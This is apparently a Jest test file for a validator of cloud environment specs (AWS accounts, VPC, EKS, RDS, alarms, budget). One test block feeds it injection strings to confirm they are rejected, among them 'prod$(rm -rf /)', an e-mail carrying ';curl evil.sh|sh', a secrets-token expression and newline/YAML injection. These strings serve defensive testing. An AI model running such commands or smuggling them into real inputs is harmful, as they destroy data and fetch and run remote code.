import {
  defaultEnvironmentSpec,
  EnvironmentSpecError,
  parseEnvironmentSpec,
  validateEnvironmentSpec,
} from './validate';
import { SEED_DEFAULTS, SEED_ENVIRONMENT_INPUT } from './schema';

const base = {
  name: 'innovate-test',
  accounts: { management: '111111111111', workloads: '222222222222' },
  budget: { alertEmail: 'alerts@example.com' },
};

/** Deep-merges `patch` into the valid base input. */
function withPatch(patch: Record<string, unknown>): Record<string, unknown> {
  const isObject = (v: unknown): v is Record<string, unknown> =>
    typeof v === 'object' && v !== null && !Array.isArray(v);
  const merge = (a: unknown, b: unknown): unknown => {
    if (!isObject(a) || !isObject(b)) {
      return b;
    }
    const out: Record<string, unknown> = { ...a };
    for (const [key, value] of Object.entries(b)) {
      out[key] = merge(a[key], value);
    }
    return out;
  };
  return merge(base, patch) as Record<string, unknown>;
}

function errorsOf(input: unknown) {
  const result = validateEnvironmentSpec(input);
  if (result.ok) {
    throw new Error('expected the spec to be invalid');
  }
  return result.errors;
}

function fieldsOf(input: unknown) {
  return errorsOf(input).map(error => error.field);
}

describe('validateEnvironmentSpec', () => {
  it('fills every optional field with the seed', () => {
    const result = validateEnvironmentSpec(base);
    expect(result.ok).toBe(true);
    const spec = result.ok ? result.spec : undefined;
    expect(spec).toMatchObject({
      region: 'us-east-1',
      network: { vpcCidr: '10.0.0.0/16', azCount: 3, natGateways: 3 },
      cluster: {
        kubernetesVersion: '1.33',
        systemNodeGroup: {
          instanceType: 't3.medium',
          minSize: 2,
          desiredSize: 2,
          maxSize: 3,
        },
        applicationNodeGroup: {
          instanceType: 't3.large',
          minSize: 2,
          desiredSize: 2,
          maxSize: 20,
        },
        hpa: { minReplicas: 2, maxReplicas: 100 },
      },
      database: {
        engineVersion: '15',
        instanceClass: 'db.t3.medium',
        allocatedStorageGb: 100,
        storageType: 'gp3',
        multiAz: false,
        backupRetentionDays: 14,
      },
      alarms: SEED_DEFAULTS.alarms,
      budget: { monthlyUsd: 430, alertEmail: 'alerts@example.com' },
    });
    expect(spec?.domain).toBeUndefined();
  });

  it('reads a blank domain (a form section left empty) as no domain', () => {
    for (const domain of [
      {},
      { name: '', hostedZoneId: '', hostedZoneName: '' },
      { hostedZoneAccount: 'workloads' },
    ]) {
      const result = validateEnvironmentSpec({
        ...SEED_ENVIRONMENT_INPUT,
        domain,
      });
      expect(result.ok && result.spec.domain).toBeUndefined();
    }
    // One field filled is a domain, and its missing fields are named.
    const partial = validateEnvironmentSpec({
      ...SEED_ENVIRONMENT_INPUT,
      domain: { name: 'app.example.com' },
    });
    expect(partial.ok ? [] : partial.errors.map(e => e.field)).toEqual([
      'domain.hostedZoneId',
      'domain.hostedZoneName',
    ]);
  });

  it('returns the seed environment from defaultEnvironmentSpec', () => {
    expect(defaultEnvironmentSpec().name).toBe(SEED_ENVIRONMENT_INPUT.name);
    expect(defaultEnvironmentSpec().accounts).toEqual(
      SEED_ENVIRONMENT_INPUT.accounts,
    );
  });

  it('names every missing required field', () => {
    expect(errorsOf({})).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          field: 'name',
          message: expect.stringMatching(/^is required/),
        }),
        expect.objectContaining({
          field: 'accounts.management',
          message: expect.stringMatching(/^is required/),
        }),
        expect.objectContaining({
          field: 'accounts.workloads',
          message: expect.stringMatching(/^is required/),
        }),
        expect.objectContaining({
          field: 'budget.alertEmail',
          message: expect.stringMatching(/^is required/),
        }),
      ]),
    );
    expect(fieldsOf({})).toHaveLength(4);
  });

  it.each([null, 'name: x', 42, ['a']])(
    'rejects a non-object spec (%p)',
    input => {
      expect(errorsOf(input)).toEqual([
        {
          field: '(root)',
          message: expect.stringContaining('must be an object'),
        },
      ]);
    },
  );

  it.each<[string, Record<string, unknown>, string, RegExp]>([
    ['too short name', { name: 'ab' }, 'name', /3 to 24 characters/],
    ['too long name', { name: 'a'.repeat(25) }, 'name', /3 to 24 characters/],
    ['uppercase name', { name: 'Innovate' }, 'name', /lowercase/],
    [
      'name with a leading digit',
      { name: '1nnovate' },
      'name',
      /starting with a letter/,
    ],
    [
      'name ending in a hyphen',
      { name: 'innovate-' },
      'name',
      /ending with a letter or digit/,
    ],
    [
      'name with a double hyphen',
      { name: 'in--novate' },
      'name',
      /single hyphens/,
    ],
    [
      'reserved aws prefix',
      { name: 'aws-prod' },
      'name',
      /must not start with "aws"/,
    ],
    [
      'short account id',
      { accounts: { management: '12345' } },
      'accounts.management',
      /12-digit/,
    ],
    [
      'numeric account id',
      { accounts: { workloads: 222222222222 } },
      'accounts.workloads',
      /got a number/,
    ],
    [
      'region with two AZs',
      { region: 'us-west-1' },
      'region',
      /one of us-east-1/,
    ],
    ['unknown region', { region: 'mars-1' }, 'region', /one of/],
    [
      'VPC too large',
      { network: { vpcCidr: '10.0.0.0/15' } },
      'network.vpcCidr',
      /\/16 at most/,
    ],
    [
      'VPC too small for the layout',
      { network: { vpcCidr: '10.0.0.0/24' } },
      'network.vpcCidr',
      /too small for the subnet layout/,
    ],
    [
      'VPC /23',
      { network: { vpcCidr: '10.0.0.0/23' } },
      'network.vpcCidr',
      /use \/16 to \/22/,
    ],
    [
      'host bits set',
      { network: { vpcCidr: '10.0.1.0/16' } },
      'network.vpcCidr',
      /network address/,
    ],
    [
      'public range',
      { network: { vpcCidr: '8.8.0.0/16' } },
      'network.vpcCidr',
      /private \(RFC 1918\)/,
    ],
    [
      'not a CIDR',
      { network: { vpcCidr: '10.0.0.0' } },
      'network.vpcCidr',
      /IPv4 block/,
    ],
    [
      'one AZ',
      { network: { azCount: 1, natGateways: 1 } },
      'network.azCount',
      /from 2 to 3; got 1/,
    ],
    ['four AZs', { network: { azCount: 4 } }, 'network.azCount', /from 2 to 3/],
    [
      'fractional AZs',
      { network: { azCount: 2.5 } },
      'network.azCount',
      /whole number/,
    ],
    [
      'no NAT gateway',
      { network: { natGateways: 0 } },
      'network.natGateways',
      /from 1 to network.azCount/,
    ],
    [
      'more NAT gateways than AZs',
      { network: { azCount: 2, natGateways: 3 } },
      'network.natGateways',
      /from 1 to network.azCount \(2\)/,
    ],
    [
      'unknown instance type',
      { cluster: { systemNodeGroup: { instanceType: 'x9.huge' } } },
      'cluster.systemNodeGroup.instanceType',
      /one of t3.medium/,
    ],
    [
      'min above desired',
      { cluster: { applicationNodeGroup: { minSize: 3, desiredSize: 2 } } },
      'cluster.applicationNodeGroup.minSize',
      /at most desiredSize \(2\); got 3/,
    ],
    [
      'desired above max',
      { cluster: { applicationNodeGroup: { desiredSize: 21 } } },
      'cluster.applicationNodeGroup.desiredSize',
      /at most maxSize \(20\); got 21/,
    ],
    [
      'zero nodes',
      { cluster: { systemNodeGroup: { minSize: 0, desiredSize: 0 } } },
      'cluster.systemNodeGroup.minSize',
      /from 1 to 100/,
    ],
    [
      'too many nodes',
      { cluster: { applicationNodeGroup: { maxSize: 101 } } },
      'cluster.applicationNodeGroup.maxSize',
      /from 1 to 100/,
    ],
    [
      'unsupported Kubernetes version',
      { cluster: { kubernetesVersion: '1.30' } },
      'cluster.kubernetesVersion',
      /"1.32", "1.33", "1.34", "1.35"/,
    ],
    [
      'Kubernetes version as a number',
      { cluster: { kubernetesVersion: 1.33 } },
      'cluster.kubernetesVersion',
      /got a number/,
    ],
    [
      'HPA max below min',
      { cluster: { hpa: { minReplicas: 5, maxReplicas: 4 } } },
      'cluster.hpa.maxReplicas',
      /at least cluster.hpa.minReplicas \(5\)/,
    ],
    [
      'PostgreSQL 14',
      { database: { engineVersion: '14' } },
      'database.engineVersion',
      /"15", "16", "17"/,
    ],
    [
      'unknown DB class',
      { database: { instanceClass: 'db.x1.large' } },
      'database.instanceClass',
      /one of db.t3.micro/,
    ],
    [
      'io1 storage',
      { database: { storageType: 'io1' } },
      'database.storageType',
      /one of gp3, gp2/,
    ],
    [
      'storage below 20 GB',
      { database: { allocatedStorageGb: 10 } },
      'database.allocatedStorageGb',
      /from 20 to 65536/,
    ],
    [
      'storage above 64 TiB',
      { database: { allocatedStorageGb: 70000 } },
      'database.allocatedStorageGb',
      /from 20 to 65536/,
    ],
    [
      'backups off',
      { database: { backupRetentionDays: 0 } },
      'database.backupRetentionDays',
      /point-in-time recovery/,
    ],
    [
      'backups too long',
      { database: { backupRetentionDays: 36 } },
      'database.backupRetentionDays',
      /from 1 to 35/,
    ],
    [
      'multiAz as a string',
      { database: { multiAz: 'yes' } },
      'database.multiAz',
      /true or false/,
    ],
    [
      'error rate 0',
      { alarms: { errorRatePercent: 0 } },
      'alarms.errorRatePercent',
      /from 0.01 to 50/,
    ],
    [
      'latency above the ALB timeout',
      { alarms: { p99LatencySeconds: 61 } },
      'alarms.p99LatencySeconds',
      /from 0.05 to 60/,
    ],
    [
      'CPU 100 %',
      { alarms: { nodeCpuPercent: 100 } },
      'alarms.nodeCpuPercent',
      /from 1 to 99/,
    ],
    [
      'memory 0 %',
      { alarms: { nodeMemoryPercent: 0 } },
      'alarms.nodeMemoryPercent',
      /from 1 to 99/,
    ],
    [
      'DB CPU as a string',
      { alarms: { databaseCpuPercent: '80' } },
      'alarms.databaseCpuPercent',
      /got a string/,
    ],
    [
      'zero budget',
      { budget: { monthlyUsd: 0 } },
      'budget.monthlyUsd',
      /from 1 to 1000000; got 0/,
    ],
    [
      'negative budget',
      { budget: { monthlyUsd: -5 } },
      'budget.monthlyUsd',
      /got -5/,
    ],
    [
      'bad e-mail',
      { budget: { alertEmail: 'not-an-email' } },
      'budget.alertEmail',
      /e-mail address/,
    ],
    [
      'domain without its hosted zone',
      { domain: { name: 'app.example.com' } },
      'domain.hostedZoneId',
      /Route 53 hosted zone id/,
    ],
    [
      'domain outside its hosted zone',
      {
        domain: {
          name: 'app.example.com',
          hostedZoneId: 'Z0123456789ABCDEFGHIJ',
          hostedZoneName: 'example.org',
        },
      },
      'domain.name',
      /must be in the hosted zone example.org/,
    ],
    [
      'uppercase domain',
      {
        domain: {
          name: 'App.Example.com',
          hostedZoneId: 'Z0123456789ABCDEFGHIJ',
          hostedZoneName: 'example.com',
        },
      },
      'domain.name',
      /lowercase fully qualified domain/,
    ],
    [
      'unknown field',
      { network: { natGateway: 1 } },
      'network.natGateway',
      /not a field.*natGateways/,
    ],
  ])('rejects %s', (_, patch, field, message) => {
    const errors = errorsOf(withPatch(patch));
    expect(errors).toContainEqual({
      field,
      message: expect.stringMatching(message),
    });
  });

  it.each([
    ['shell command substitution', { name: 'prod$(rm -rf /)' }, 'name'],
    ['GitHub Actions expression', { name: '${{ secrets.TOKEN }}' }, 'name'],
    ['newline in the name', { name: 'prod\nadmin: true' }, 'name'],
    ['YAML injection in the name', { name: 'prod: {a: 1}' }, 'name'],
    ['trailing newline', { name: 'innovate-prod\n' }, 'name'],
    [
      'shell in the e-mail',
      { budget: { alertEmail: 'a@b.com;curl evil.sh|sh' } },
      'budget.alertEmail',
    ],
    [
      'expression in the e-mail',
      { budget: { alertEmail: '${{github.token}}@example.com' } },
      'budget.alertEmail',
    ],
    [
      'newline in the e-mail',
      { budget: { alertEmail: 'a@example.com\nBcc: x@example.com' } },
      'budget.alertEmail',
    ],
    [
      'quotes in the e-mail',
      { budget: { alertEmail: '"a b"@example.com' } },
      'budget.alertEmail',
    ],
    [
      'shell in the domain',
      {
        domain: {
          name: 'app.example.com;id',
          hostedZoneId: 'Z0123456789ABCDEFGHIJ',
          hostedZoneName: 'example.com',
        },
      },
      'domain.name',
    ],
    [
      'newline in the domain',
      {
        domain: {
          name: 'app.example.com\nfoo',
          hostedZoneId: 'Z0123456789ABCDEFGHIJ',
          hostedZoneName: 'example.com',
        },
      },
      'domain.name',
    ],
  ])('rejects a hostile string: %s', (_, patch, field) => {
    const errors = errorsOf(withPatch(patch));
    expect(errors.map(e => e.field)).toContain(field);
    // Messages describe what is allowed; they never echo the input back.
    for (const error of errors) {
      expect(error.message).not.toMatch(
        /rm -rf|secrets\.TOKEN|curl|github\.token|Bcc/,
      );
    }
  });

  it('reports every problem at once', () => {
    const fields = fieldsOf(
      withPatch({
        name: 'X',
        region: 'nowhere',
        network: { natGateways: 9 },
        database: { backupRetentionDays: 0 },
        budget: { monthlyUsd: 0 },
      }),
    );
    expect(fields).toEqual(
      expect.arrayContaining([
        'name',
        'region',
        'network.natGateways',
        'database.backupRetentionDays',
        'budget.monthlyUsd',
      ]),
    );
  });

  it('reports a type error once, not again as a range error', () => {
    const errors = errorsOf(withPatch({ network: { azCount: 2.5 } }));
    expect(errors.filter(e => e.field === 'network.azCount')).toHaveLength(1);
  });

  it('reports a cross-field rule next to a type error in the same object', () => {
    const errors = errorsOf(
      withPatch({ network: { azCount: 2.5, natGateways: 0 } }),
    );
    expect(errors).toEqual([
      {
        field: 'network.azCount',
        message: 'must be a whole number from 2 to 3; got a number (2.5)',
      },
      {
        field: 'network.natGateways',
        message: expect.stringMatching(
          /^must be a whole number from 1 to network.azCount \(3\).*; got 0$/,
        ),
      },
    ]);
  });

  it('treats a whole number beyond 2^53 as a type error, not a range error', () => {
    const errors = errorsOf(
      withPatch({ cluster: { hpa: { maxReplicas: 1e20 } } }),
    );
    expect(errors).toEqual([
      {
        field: 'cluster.hpa.maxReplicas',
        message:
          'must be a whole number from cluster.hpa.minReplicas to 1000; got a number (100000000000000000000)',
      },
    ]);
  });

  it('accepts the same account for management and workloads (single-account setups)', () => {
    const result = validateEnvironmentSpec(
      withPatch({
        accounts: { management: '222222222222', workloads: '222222222222' },
      }),
    );
    expect(result.ok).toBe(true);
  });

  it.each([
    { network: { vpcCidr: '172.16.0.0/16', azCount: 2, natGateways: 1 } },
    { network: { vpcCidr: '192.168.0.0/22' } },
    { region: 'ap-northeast-1', cluster: { kubernetesVersion: '1.35' } },
    {
      database: {
        engineVersion: '17',
        instanceClass: 'db.t4g.medium',
        multiAz: true,
        storageType: 'gp2',
        allocatedStorageGb: 20,
        backupRetentionDays: 35,
      },
    },
    {
      domain: {
        name: 'app.innovate.example',
        hostedZoneId: 'Z0123456789ABCDEFGHIJ',
        hostedZoneName: 'innovate.example',
      },
    },
    {
      cluster: {
        applicationNodeGroup: {
          instanceType: 'm7g.large',
          minSize: 1,
          desiredSize: 1,
          maxSize: 1,
        },
      },
    },
    {
      name: 'abc',
      budget: { monthlyUsd: 1, alertEmail: 'ops+alerts@sub.example.co' },
    },
  ])('accepts %j', patch => {
    const result = validateEnvironmentSpec(withPatch(patch));
    expect(result).toEqual({ ok: true, spec: expect.any(Object) });
  });
});

describe('parseEnvironmentSpec', () => {
  it('returns the validated spec', () => {
    expect(parseEnvironmentSpec(base).name).toBe('innovate-test');
  });

  it('throws EnvironmentSpecError listing every bad field', () => {
    let thrown: unknown;
    try {
      parseEnvironmentSpec(withPatch({ name: 'X', region: 'nowhere' }));
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(EnvironmentSpecError);
    const error = thrown as EnvironmentSpecError;
    expect(error.errors.map(e => e.field)).toEqual(['name', 'region']);
    expect(error.message).toMatch(
      /^Invalid environment spec:\n {2}- name: .*\n {2}- region: /,
    );
  });
});
